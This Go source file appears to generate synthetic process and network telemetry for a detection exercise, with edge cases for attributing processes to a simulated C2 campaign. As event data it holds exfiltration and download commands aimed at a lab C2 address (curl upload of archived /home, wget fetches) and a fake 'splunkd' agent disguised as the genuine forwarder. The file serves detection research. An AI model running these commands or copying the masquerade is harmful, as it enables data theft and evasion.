package main

import "time"

// setOddities adds the processes of the exercise whose identity or command line takes more
// than one record to tell. All of them count, in one variable or another.
func setOddities(w *world, f *fleet, c *campaign) {
	o := &oddities{w: w, c: c, h: f.target}
	o.missingCommandLines()
	o.lastValueWins()
	o.forkAndExec()
	o.descendants()
}

// oddities is the scene of setOddities.
type oddities struct {
	w *world
	c *campaign
	h *host
}

// when is some time at which the agents take orders.
func (o *oddities) when() time.Time { return moment(o.c.r, ordersStart, ordersStop) }

// become is the exec of a fork: a shell that runs cmd.
func (o *oddities) become(p *process, after time.Duration, cmd string) *event {
	return o.w.exec(p, p.first.Add(after), shell(cmd))
}

// missingCommandLines: forks recorded without one. Completion finds it in the exec, which
// names the C2 server or does not. (The forwarder's pings are the converse.)
func (o *oddities) missingCommandLines() {
	forget := func(cmd string) *event {
		p := o.w.fork(o.c.host, o.when())
		p.born.img.cmd = ""
		return o.become(p, 20*time.Millisecond, cmd)
	}
	for range 12 {
		forget("curl -F data=@/tmp/l00t http://192.168.56.150:8888/upload") // c2_proc
	}
	for range 10 {
		forget("tar czf /tmp/l00t /home")
	}
	for range 3 {
		forget("").img.cmd = ""
	}
}

// lastValueWins: processes whose command line changes. The last known value counts; of two
// at one time, the greater.
func (o *oddities) lastValueWins() {
	agent := image{"splunkd", agentExe, containerCmd}
	genuine := image{"splunkd", forwarderExe, "splunkd -p 8089 start"}
	rename := func(from, to image) *process {
		p := o.w.run(o.h.since["sshd"], o.when(), from)
		p.img.cmd = to.cmd
		o.w.touchFile(p, p.first.Add(time.Minute), "accessed", "/proc/self/comm").knows = full
		return p
	}
	for i := range 2 { // an agent that hides its arguments: not c2_proc, nor is its traffic
		p := rename(agent, genuine)
		o.w.connect(o.c.r, p, p.last.Add(time.Minute), tcp(containerIP, 42001+i, c2IP, c2Port))
	}
	for range 2 { // one that shows them late
		rename(genuine, agent)
	}
	twice := func(other string) {
		p := o.w.child(o.h.since["sshd"])
		at := o.when()
		o.w.exec(p, at, image{"splunkd", agentExe, "./splunkd -server http://192.168.56.150:8888"})
		o.w.exec(p, at, image{"splunkd", agentExe, other})
	}
	twice("./splunkd -p 8089") // smaller: c2_proc
	for range 2 {
		twice("./splunkd -version") // greater: not
	}
}

// forkAndExec: creations of one pid by one parent are one process while each follows the one
// before within five seconds.
func (o *oddities) forkAndExec() {
	for range 5 { // eight seconds in steps of four: one
		p := o.w.fork(o.c.container, o.when())
		o.become(p, 4*time.Second, "setsid bash")
		o.become(p, 8*time.Second, "bash")
	}
	for range 4 { // eight seconds at once: two, the second no splunkd
		o.become(o.w.fork(o.c.container, o.when()), 8*time.Second, "sleep 1d")
	}
	for range 6 { // the fork tells nothing but the pids: an activity, no splunkd
		p := o.w.fork(o.c.container, o.when())
		p.born.knows = bare
		p.born.knowsParent = bare
		o.become(p, 20*time.Millisecond, "id")
	}
	for range 20 { // no fork at all: the same
		o.w.spawn(o.c.container, o.when(), image{"ip", "/usr/sbin/ip", "ip -j addr"})
	}
}

// descendants: the children of a splunkd's children are activities, for a fork is a splunkd
// whatever it execs. Their children in turn are not, nor is a child that a record gives to
// a parent after its end.
func (o *oddities) descendants() {
	sh := o.c.order(o.c.container, o.when())
	bash := o.w.run(sh, sh.first.Add(200*time.Millisecond), image{"bash", "/usr/bin/bash", "bash -i"})
	wget := o.w.run(bash, bash.first.Add(time.Minute), image{"wget", "/usr/bin/wget", "wget http://192.168.56.150:8888/x"})
	o.w.connect(o.c.r, wget, wget.first.Add(time.Second), tcp(containerIP, 42011, c2IP, c2Port))

	p := o.w.fork(o.c.container, o.when())
	o.become(p, 20*time.Millisecond, "nohup wget http://192.168.56.150:8888/y &")
	o.w.exit(p, p.first.Add(time.Second))
	orphan := o.w.run(p, p.first.Add(3*time.Second), image{"wget", "/usr/bin/wget", "wget http://192.168.56.150:8888/y"})
	o.w.connect(o.c.r, orphan, orphan.first.Add(time.Second), tcp(containerIP, 42012, c2IP, c2Port))
}
